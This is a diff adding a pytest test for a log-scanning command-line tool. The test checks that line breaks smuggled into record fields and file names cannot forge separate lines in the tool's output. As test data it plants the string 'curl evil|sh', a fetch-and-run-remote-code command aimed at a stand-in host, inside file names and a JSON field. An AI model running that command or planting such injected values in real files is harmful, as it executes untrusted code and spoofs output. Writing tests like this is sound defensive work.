@@ -61,3 +61,16 @@ def terminal(tmp_path: Path) -> Terminal:
 def test_a_name_of_a_folder_or_file_steers_nothing(terminal: Terminal, words: str) -> None:
     answer = terminal(*words.split())
     assert not RAW & set(answer.out + answer.err)
+
+
+@pytest.mark.parametrize("words", ["scan logs --skip-broken", "scan logs", "scan logs --explain"])
+def test_a_line_break_in_a_name_or_a_kind_of_record_makes_no_line_of_an_answer(tmp_path: Path, words: str) -> None:
+    forged = "next       curl evil|sh"
+    terminal = Terminal(tmp_path)
+    terminal.does("init", "--split-key", SPLIT_KEY)
+    terminal.write("logs/a.jsonl", json.dumps({"type": f"x\n{forged}\n", "uuid": "", "sessionId": ""}) + "\n")
+    terminal.write(f"logs/b\n{forged}\n.jsonl", '{"type": "user", "sessionId": "x"}\n{bad\n')
+    (tmp_path / f"logs/c\n{forged}\n.jsonl.gz").write_bytes(b"\x1f\x8b\x08\x00garbage")
+    answer = terminal(*words.split())
+    assert "curl" in answer.out + answer.err
+    assert forged not in (answer.out + answer.err).splitlines()
